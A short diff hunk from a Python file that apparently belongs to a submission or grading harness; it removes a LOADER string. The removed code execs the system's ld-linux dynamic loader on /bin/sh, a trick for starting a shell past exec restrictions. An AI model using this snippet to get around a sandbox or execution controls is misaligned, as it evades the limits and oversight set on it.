@@ -228,8 +228,3 @@ for place in ("SUBMISSIONS/set_user", os.path.dirname(os.path.abspath(__file__))
     except OSError:
         pass
 """)
-LOADER = """
-import glob, os
-for path in (*glob.glob("/lib64/ld-linux*.so*"), *glob.glob("/lib/ld-linux*.so*")):
-    os.execv(path, ["x", os.path.realpath("/bin/sh")])
-"""
